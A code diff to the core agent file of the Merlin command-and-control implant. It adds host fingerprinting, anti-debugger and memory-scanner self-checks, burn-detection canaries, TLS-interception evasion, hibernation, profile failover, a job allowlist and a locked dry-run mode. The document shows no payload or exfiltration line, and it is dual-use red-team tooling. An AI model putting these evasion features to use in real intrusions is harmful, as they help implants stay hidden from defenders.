@@ -21,7 +21,6 @@ import (
 	// Standard
 	"fmt"
 	"math/rand"
-	"net"
 	"os"
 	"runtime"
 	"strconv"
@@ -31,13 +30,19 @@ import (
 	"github.com/satori/go.uuid"
 
 	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
 	"github.com/Ne0nd0g/merlin/pkg/messages"
 
 	// Internal
+	"github.com/Ne0nd0g/merlin-agent/audit"
 	"github.com/Ne0nd0g/merlin-agent/cli"
 	"github.com/Ne0nd0g/merlin-agent/clients"
+	"github.com/Ne0nd0g/merlin-agent/commands"
 	"github.com/Ne0nd0g/merlin-agent/core"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
+	"github.com/Ne0nd0g/merlin-agent/loot"
 	merlinOS "github.com/Ne0nd0g/merlin-agent/os"
+	"github.com/Ne0nd0g/merlin-agent/staging"
 )
 
 // GLOBAL VARIABLES
@@ -66,19 +71,66 @@ type Agent struct {
 	Initial       bool                    // Initial identifies if the agent has successfully completed the first initial check in
 	KillDate      int64                   // killDate is a unix timestamp that denotes a time the executable will not run after (if it is 0 it will not be used)
 	Integrity     int                     // Integrity is the agent's integrity level such as High for Windows or root for Linux
+	Fingerprint   string                  // Fingerprint is a stable identifier for the host used to correlate multiple agents on the same host
+	Alias         string                  // Alias is an operator provided label for the agent (e.g., DC01-system)
+	Note          string                  // Note is free-form operator provided text about the agent
+	HostInfo      merlinOS.HostInfo       // HostInfo contains operating system details such as the domain, version, and locale
+	Metrics       int                     // Metrics is the number of check ins between runtime metrics reports, 0 disables them
+	metricsCount  int                     // metricsCount is the number of check ins since the last runtime metrics report
+	wake          *trigger                // wake is a listener that ends the agent's sleep early, nil if not used
+	Adaptive      int                     // Adaptive is the factor sleep is lengthened by while a user is active and shortened by while idle
+	sentInfo      string                  // sentInfo is a hash of the last AgentInfo message sent to the server
+	reportedInfo  string                  // reportedInfo is a hash of the last changed AgentInfo message the agent authenticated again to send
+	infoReport    string                  // infoReport describes a change in the host's addressing until it is returned with the agentinfo control
+	backoff       uint                    // backoff is the power of two sleep is multiplied by while the server looks like a TLS intercepting proxy
+	TLSPolicy     string                  // TLSPolicy is what the agent does when TLS interception is detected: backoff, dormant, fallback, or exit
+	interception  string                  // interception describes the last detected TLS interception until it is sent to the server
+	profiles      map[string]profile      // profiles are the communication profiles compiled into the agent, keyed by name
+	profile       string                  // profile is the name of the communication profile in use, empty for the build configuration
+	canary        *canary                 // canary is the hostname or URL checked to learn the agent is burned, nil if not used
+	burned        string                  // burned describes the last burn action taken until it is sent to the server
+	hibernation   time.Time               // hibernation is the wall clock time the agent hibernates until, zero if it is not hibernating
+	hibernateFile string                  // hibernateFile is where the hibernation end time is kept so it survives a restart, empty if not used
+	hibernateKey  *secure.Buffer          // hibernateKey encrypts the hibernation file, derived from the PSK, nil if a file is not used
+	parent        string                  // parent is the name, PID, and command line of the process that launched the agent
+	selfcheck     *selfcheck              // selfcheck periodically checks for debuggers and memory scanners, nil if not used
+	policy        *policy                 // policy restricts the jobs the agent executes, nil if every job is executed
+	operator      string                  // operator tasked the jobs in the message being handled, empty if the server did not identify one
+	health        *health                 // health scores the communication profiles used and shifts traffic away from a degraded one
+	dryrun        dryrun                  // dryrun simulates injection, dumping, and persistence jobs instead of executing them
 }
 
 // Config is a structure that is used to pass in all necessary information to instantiate a new Agent
 type Config struct {
-	Sleep    string // Sleep is the amount of time the Agent will wait between sending messages to the server
-	Skew     string // Skew is the variance, or jitter, used to vary the sleep time so that it isn't constant
-	KillDate string // KillDate is the date, as a Unix timestamp, that agent will quit running
-	MaxRetry string // MaxRetry is the maximum amount of time an agent will fail to check in before it quits running
+	Sleep        string // Sleep is the amount of time the Agent will wait between sending messages to the server
+	Skew         string // Skew is the variance, or jitter, used to vary the sleep time so that it isn't constant
+	KillDate     string // KillDate is the date, as a Unix timestamp, that agent will quit running
+	MaxRetry     string // MaxRetry is the maximum amount of time an agent will fail to check in before it quits running
+	MaxOutput    string // MaxOutput is the largest job output, in bytes, returned inline; larger output is held in the staging area
+	Metrics      string // Metrics is the number of check ins between runtime metrics reports, 0 disables them
+	Wake         string // Wake is the trigger that ends the agent's sleep early (e.g., udp:53000:secret), empty if not used
+	Adaptive     string // Adaptive is the factor sleep is lengthened by while a user is active and shortened by while idle
+	TLSPolicy    string // TLSPolicy is what the agent does when TLS interception is detected: backoff, dormant, fallback, or exit
+	LootKey      string // LootKey is the operator's base64 X25519 public key that sensitive results are sealed to
+	Profiles     string // Profiles are the named communication profiles the agent can switch to (e.g., -profile phase2 -url ...)
+	Canary       string // Canary is the hostname or URL checked to learn the agent is burned (e.g., dns:status.example.com=127.0.0.2)
+	CanaryAction string // CanaryAction is what the agent does when the canary is tripped: dormant, profile:<name>, exit, or uninstall
+	Hibernate    string // Hibernate is the file the hibernation end time is written to so it survives a restart, empty if not used
+	PSK          string // PSK is the pre-shared key the hibernation file's key is derived from
+	SelfCheck    string // SelfCheck is how often the agent checks for debuggers and memory scanners and the action taken (e.g., 5m,report)
+	Policy       string // Policy is the comma separated list of jobs, or groups of jobs, the agent executes (e.g., recon,upload)
+	Audit        string // Audit is the file every audit record is appended to, sealed to the operator's public key, empty if not used
+	RateLimit    string // RateLimit is the number of results per minute returned to the server and the burst size (e.g., 60,200)
+	Failover     string // Failover is the consecutive failed check ins and minimum health score that shift traffic to a healthier profile (e.g., 3,60)
+	Local        string // Local is the named pipe or Unix domain socket local tools queue jobs through, empty if not used
+	DryRun       bool   // DryRun simulates injection, dumping, and persistence jobs instead of executing them and can't be turned off
 }
 
 // New creates a new agent struct with specific values and returns the object
 func New(config Config) (agent *Agent) {
-	cli.Message(cli.DEBUG, "Entering agent.New() function")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering agent.New() function")
+	}
 
 	agent = &Agent{
 		ID:           uuid.NewV4(),
@@ -95,42 +147,38 @@ func New(config Config) (agent *Agent) {
 	agent.UserName, agent.UserGUID, err = merlinOS.GetUser()
 	if err != nil {
 		// DO NOT exit if we were unable to get the username or the user's primary group
-		cli.Message(cli.WARN, fmt.Sprintf("there was an error getting the current user: %s", err))
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error getting the current user: %s", err))
+		}
 	}
 
 	agent.HostName, err = os.Hostname()
 	if err != nil {
-		cli.Message(cli.WARN, fmt.Sprintf("there was an error getting the hostname: %s", err))
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error getting the hostname: %s", err))
+		}
 	}
 
 	agent.Process, err = os.Executable()
 	if err != nil {
-		cli.Message(cli.WARN, fmt.Sprintf("there was an error getting the process name: %s", err))
-	}
-
-	interfaces, errI := net.Interfaces()
-	if errI != nil {
-		cli.Message(cli.WARN, fmt.Sprintf("there was an error getting the network interfaces: %s", errI))
-	} else {
-		for _, iface := range interfaces {
-			addrs, err := iface.Addrs()
-			if err == nil {
-				for _, addr := range addrs {
-					agent.Ips = append(agent.Ips, addr.String())
-				}
-			} else {
-				cli.Message(cli.WARN, fmt.Sprintf("there was an error getting interface information for %v: %s", addrs, err))
-			}
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error getting the process name: %s", err))
 		}
 	}
 
+	agent.Ips = getIPs()
+
 	// Parse config
 
 	// Parse KillDate
 	if config.KillDate != "" {
-		agent.KillDate, err = strconv.ParseInt(config.KillDate, 10, 64)
+		killDate, err := commands.ParseTime(config.KillDate)
 		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("there was an error converting the killdate to an integer: %s", err))
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error parsing the killdate: %s", err))
+			}
+		} else {
+			agent.KillDate = killDate.Unix()
 		}
 	}
 
@@ -138,7 +186,9 @@ func New(config Config) (agent *Agent) {
 	if config.MaxRetry != "" {
 		agent.MaxRetry, err = strconv.Atoi(config.MaxRetry)
 		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("there was an error converting the max retry to an integer: %s", err))
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error converting the max retry to an integer: %s", err))
+			}
 			agent.MaxRetry = 7
 		}
 	} else {
@@ -149,7 +199,9 @@ func New(config Config) (agent *Agent) {
 	if config.Sleep != "" {
 		agent.WaitTime, err = time.ParseDuration(config.Sleep)
 		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("there was an error convertiing the sleep time to an integer: %s", err))
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error convertiing the sleep time to an integer: %s", err))
+			}
 			agent.WaitTime = 30000 * time.Millisecond
 		}
 	} else {
@@ -160,31 +212,195 @@ func New(config Config) (agent *Agent) {
 	if config.Skew != "" {
 		agent.Skew, err = strconv.ParseInt(config.Skew, 10, 64)
 		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("there was an error converting the skew to an integer: %s", err))
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error converting the skew to an integer: %s", err))
+			}
 			agent.Skew = 3000
 		}
 	} else {
 		agent.Skew = 3000
 	}
 
+	// Parse MaxOutput
+	if config.MaxOutput != "" {
+		maxOutput, errMax := strconv.ParseInt(config.MaxOutput, 10, 64)
+		if errMax != nil {
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error converting the max output size to an integer: %s", errMax))
+			}
+		} else if errMax = staging.SetLimit(maxOutput); errMax != nil {
+			if cli.Enabled {
+				cli.Message(cli.WARN, errMax.Error())
+			}
+		}
+	}
+
+	// Parse Metrics
+	if config.Metrics != "" {
+		agent.Metrics, err = strconv.Atoi(config.Metrics)
+		if err != nil {
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error converting the metrics interval to an integer: %s", err))
+			}
+		}
+	}
+
+	// Parse Adaptive
+	if config.Adaptive != "" {
+		agent.Adaptive, err = strconv.Atoi(config.Adaptive)
+		if err != nil {
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error converting the adaptive sleep factor to an integer: %s", err))
+			}
+		}
+	}
+
+	// Parse LootKey
+	if err = loot.SetKey(config.LootKey); err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, err.Error())
+		}
+	}
+
+	// Parse Audit, after the operator public key its records are sealed to
+	if err = audit.SetFile(config.Audit); err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, err.Error())
+		}
+	}
+
+	// Parse TLSPolicy
+	if err = agent.setTLSPolicy(config.TLSPolicy); err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, err.Error())
+		}
+		_ = agent.setTLSPolicy("")
+	}
+
+	// Parse Profiles
+	agent.profiles, err = parseProfiles(config.Profiles)
+	if err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, err.Error())
+		}
+	}
+
+	// Parse Canary, after the profiles it can switch to
+	agent.canary, err = parseCanary(config.Canary, config.CanaryAction)
+	if err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error parsing the canary: %s", err))
+		}
+	}
+
+	// Parse RateLimit
+	outbound.limiter, err = parseRateLimit(config.RateLimit)
+	if err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error parsing the result rate limit: %s", err))
+		}
+	}
+
+	// Parse Failover, transports are always scored even if traffic is never shifted
+	agent.health, err = parseFailover(config.Failover)
+	if err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error parsing the transport failover policy: %s", err))
+		}
+	}
+
+	// Parse Policy, an invalid policy executes no jobs rather than every job
+	agent.policy, err = parsePolicy(config.Policy)
+	if err != nil {
+		agent.policy = &policy{source: "none", allow: map[string]bool{}}
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error parsing the job policy, no jobs will be executed: %s", err))
+		}
+	}
+
+	// Dry run mode the agent was built or started with can't be turned off
+	agent.dryrun = dryrun{enabled: config.DryRun, locked: config.DryRun}
+
+	// Parse SelfCheck, after the profiles its action can switch to
+	agent.selfcheck, err = parseSelfcheck(config.SelfCheck)
+	if err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error parsing the self-check: %s", err))
+		}
+	}
+
+	// Start the local control channel
+	if config.Local != "" {
+		if err = startLocal(config.Local); err != nil {
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error starting the local control channel: %s", err))
+			}
+		}
+	}
+
+	// Parse Wake
+	agent.wake, err = parseTrigger(config.Wake)
+	if err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error parsing the wake trigger: %s", err))
+		}
+	}
+
 	// Integrity Level
 	agent.Integrity, err = merlinOS.GetIntegrityLevel()
 	if err != nil {
-		cli.Message(cli.DEBUG, fmt.Sprintf("there was an error determining the agent's integrity level: %s", err))
-	}
-
-	cli.Message(cli.INFO, "Host Information:")
-	cli.Message(cli.INFO, fmt.Sprintf("\tAgent UUID: %s", agent.ID))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPlatform: %s", agent.Platform))
-	cli.Message(cli.INFO, fmt.Sprintf("\tArchitecture: %s", agent.Architecture))
-	cli.Message(cli.INFO, fmt.Sprintf("\tUser Name: %s", agent.UserName)) //TODO A username like _svctestaccont causes error
-	cli.Message(cli.INFO, fmt.Sprintf("\tUser GUID: %s", agent.UserGUID))
-	cli.Message(cli.INFO, fmt.Sprintf("\tIntegrity Level: %d", agent.Integrity))
-	cli.Message(cli.INFO, fmt.Sprintf("\tHostname: %s", agent.HostName))
-	cli.Message(cli.INFO, fmt.Sprintf("\tProcess: %s", agent.Process))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPID: %d", agent.Pid))
-	cli.Message(cli.INFO, fmt.Sprintf("\tIPs: %v", agent.Ips))
-	cli.Message(cli.DEBUG, "Leaving agent.New function")
+		if cli.Enabled {
+			cli.Message(cli.DEBUG, fmt.Sprintf("there was an error determining the agent's integrity level: %s", err))
+		}
+	}
+
+	// Host Fingerprint
+	agent.Fingerprint, err = merlinOS.GetHostFingerprint()
+	if err != nil {
+		if cli.Enabled {
+			cli.Message(cli.DEBUG, fmt.Sprintf("there was an error getting the host fingerprint: %s", err))
+		}
+	}
+
+	agent.HostInfo = merlinOS.GetHostInfo()
+	agent.parent = commands.ParentProcess().String()
+
+	// Parse Hibernate, after the host fingerprint its key is derived from along with the PSK
+	agent.hibernateFile = config.Hibernate
+	if agent.hibernateFile != "" {
+		agent.hibernateKey = hibernateKey(config.PSK, agent.Fingerprint)
+	}
+	if err = agent.resumeHibernate(); err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, err.Error())
+		}
+	}
+
+	if cli.Enabled {
+		cli.Message(cli.INFO, "Host Information:")
+		cli.Message(cli.INFO, fmt.Sprintf("\tAgent UUID: %s", agent.ID))
+		cli.Message(cli.INFO, fmt.Sprintf("\tPlatform: %s", agent.Platform))
+		cli.Message(cli.INFO, fmt.Sprintf("\tArchitecture: %s", agent.Architecture))
+		cli.Message(cli.INFO, fmt.Sprintf("\tUser Name: %s", agent.UserName)) //TODO A username like _svctestaccont causes error
+		cli.Message(cli.INFO, fmt.Sprintf("\tUser GUID: %s", agent.UserGUID))
+		cli.Message(cli.INFO, fmt.Sprintf("\tIntegrity Level: %d", agent.Integrity))
+		cli.Message(cli.INFO, fmt.Sprintf("\tHostname: %s", agent.HostName))
+		cli.Message(cli.INFO, fmt.Sprintf("\tProcess: %s", agent.Process))
+		cli.Message(cli.INFO, fmt.Sprintf("\tPID: %d", agent.Pid))
+		cli.Message(cli.INFO, fmt.Sprintf("\tIPs: %v", agent.Ips))
+		cli.Message(cli.INFO, fmt.Sprintf("\tHost Fingerprint: %s", agent.Fingerprint))
+		cli.Message(cli.INFO, fmt.Sprintf("\tMax Inline Output: %d", staging.Limit()))
+		cli.Message(cli.INFO, fmt.Sprintf("\tDomain: %s", agent.HostInfo.Domain))
+		cli.Message(cli.INFO, fmt.Sprintf("\tOS Version: %s (%s)", agent.HostInfo.OSVersion, agent.HostInfo.OSBuild))
+		cli.Message(cli.INFO, fmt.Sprintf("\tLocale: %s", agent.HostInfo.Locale))
+		cli.Message(cli.INFO, fmt.Sprintf("\tTime Zone: %s", agent.HostInfo.TimeZone))
+		cli.Message(cli.INFO, fmt.Sprintf("\tElevation: %s", agent.HostInfo.Elevation))
+		cli.Message(cli.INFO, fmt.Sprintf("\tGateways: %v", agent.HostInfo.Gateways))
+		cli.Message(cli.INFO, fmt.Sprintf("\tParent Process: %s", agent.parent))
+		cli.Message(cli.INFO, fmt.Sprintf("\tWake Trigger: %s", agent.wake))
+		cli.Message(cli.INFO, fmt.Sprintf("\tAdaptive Sleep Factor: %d", agent.Adaptive))
+		cli.Message(cli.DEBUG, "Leaving agent.New function")
+	}
 
 	return
 }
@@ -193,25 +409,45 @@ func New(config Config) (agent *Agent) {
 func (a *Agent) Run() {
 	rand.Seed(time.Now().UTC().UnixNano())
 
-	cli.Message(cli.NOTE, fmt.Sprintf("Agent version: %s", a.Version))
-	cli.Message(cli.NOTE, fmt.Sprintf("Agent build: %s", build))
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Agent version: %s", a.Version))
+		cli.Message(cli.NOTE, fmt.Sprintf("Agent build: %s", build))
+	}
 
 	for {
+		if !a.hibernation.IsZero() {
+			// Return the hibernate control's result before going quiet
+			if a.Initial && (len(jobsOut) > 0 || heldResults() > 0) {
+				a.statusCheckIn()
+			}
+			a.hibernate()
+		}
 		// Verify the agent's kill date hasn't been exceeded
-		if (a.KillDate != 0) && (time.Now().Unix() >= a.KillDate) {
-			cli.Message(cli.WARN, fmt.Sprintf("agent kill date has been exceeded: %s", time.Unix(a.KillDate, 0).UTC().Format(time.RFC3339)))
+		if (a.KillDate != 0) && (clients.Now().Unix() >= a.KillDate) {
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("agent kill date has been exceeded: %s", time.Unix(a.KillDate, 0).UTC().Format(time.RFC3339)))
+			}
 			os.Exit(0)
 		}
+		// Jobs from the local control channel are handled here so they don't race with the check in
+		a.localJobs()
 		// Check in
 		if a.Initial {
-			cli.Message(cli.NOTE, "Checking in...")
+			if cli.Enabled {
+				cli.Message(cli.NOTE, "Checking in...")
+			}
 			a.statusCheckIn()
 		} else {
+			a.sentInfo = a.infoSum()
+			start := time.Now()
 			msg, err := a.Client.Initial(a.getAgentInfoMessage())
+			a.health.record(a.profile, time.Since(start), err)
 			if err != nil {
 				a.FailedCheckin++
-				cli.Message(cli.WARN, err.Error())
-				cli.Message(cli.NOTE, fmt.Sprintf("%d out of %d total failed checkins", a.FailedCheckin, a.MaxRetry))
+				if cli.Enabled {
+					cli.Message(cli.WARN, err.Error())
+					cli.Message(cli.NOTE, fmt.Sprintf("%d out of %d total failed checkins", a.FailedCheckin, a.MaxRetry))
+				}
 			} else {
 				a.messageHandler(msg)
 				a.Initial = true
@@ -220,9 +456,29 @@ func (a *Agent) Run() {
 				a.statusCheckIn()
 			}
 		}
+		// A server that looks like a TLS intercepting proxy is not counted as a failed check in, the policy is applied
+		var dormant time.Duration
+		if reason := clients.Intercepted(); reason != "" {
+			dormant = a.intercepted(reason)
+		} else if a.FailedCheckin == 0 {
+			a.backoff = 0
+			a.sendInterception()
+			a.sendBurned()
+		}
+		// A tripped canary or an inspected agent means the agent is burned and its action takes precedence
+		if burned := a.checkCanary(); burned > 0 {
+			dormant = burned
+		}
+		if burned := a.checkSelf(); burned > 0 {
+			dormant = burned
+		}
+		// Shift traffic to a healthier communication profile before the max number of failed check ins is reached
+		a.failover()
 		// Determine if the max number of failed checkins has been reached
 		if a.FailedCheckin >= a.MaxRetry {
-			cli.Message(cli.WARN, fmt.Sprintf("maximum number of failed checkin attempts reached: %d", a.MaxRetry))
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("maximum number of failed checkin attempts reached: %d", a.MaxRetry))
+			}
 			os.Exit(0)
 		}
 		// Sleep
@@ -232,28 +488,43 @@ func (a *Agent) Run() {
 		} else {
 			sleep = a.WaitTime
 		}
-		cli.Message(cli.NOTE, fmt.Sprintf("Sleeping for %s at %s", sleep.String(), time.Now().UTC().Format(time.RFC3339)))
-		time.Sleep(sleep)
+		sleep = a.adapt(sleep) << a.backoff
+		if dormant > 0 {
+			sleep = dormant
+		}
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Sleeping for %s at %s", sleep.String(), time.Now().UTC().Format(time.RFC3339)))
+		}
+		a.sleep(sleep)
 	}
 }
 
 // statusCheckIn is the function that agent runs at every sleep/skew interval to check in with the server for jobs
 func (a *Agent) statusCheckIn() {
-	cli.Message(cli.DEBUG, "Entering into agent.statusCheckIn()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into agent.statusCheckIn()")
+	}
 
+	a.sendMetrics()
+	a.reportChanges()
+	commands.DripCheckIn()
 	msg := getJobs()
 	msg.ID = a.ID
 
+	start := time.Now()
 	bases, err := a.Client.Send(msg)
+	a.health.record(a.profile, time.Since(start), err)
 
 	if err != nil {
 		a.FailedCheckin++
-		cli.Message(cli.WARN, err.Error())
-		cli.Message(cli.NOTE, fmt.Sprintf("%d out of %d total failed checkins", a.FailedCheckin, a.MaxRetry))
+		if cli.Enabled {
+			cli.Message(cli.WARN, err.Error())
+			cli.Message(cli.NOTE, fmt.Sprintf("%d out of %d total failed checkins", a.FailedCheckin, a.MaxRetry))
+		}
 
 		// Put the jobs back into the queue if there was an error
 		if msg.Type == messages.JOBS {
-			a.messageHandler(msg)
+			requeue(msg.Payload.([]jobs.Job))
 		}
 		return
 	}
@@ -262,9 +533,11 @@ func (a *Agent) statusCheckIn() {
 	a.sCheckIn = time.Now().UTC()
 
 	for _, base := range bases {
-		cli.Message(cli.DEBUG, fmt.Sprintf("Agent ID: %s", base.ID))
-		cli.Message(cli.DEBUG, fmt.Sprintf("Message Type: %s", messages.String(base.Type)))
-		cli.Message(cli.DEBUG, fmt.Sprintf("Message Payload: %+v", base.Payload))
+		if cli.Enabled {
+			cli.Message(cli.DEBUG, fmt.Sprintf("Agent ID: %s", base.ID))
+			cli.Message(cli.DEBUG, fmt.Sprintf("Message Type: %s", messages.String(base.Type)))
+			cli.Message(cli.DEBUG, fmt.Sprintf("Message Payload: %+v", base.Payload))
+		}
 
 		// Handle message
 		a.messageHandler(base)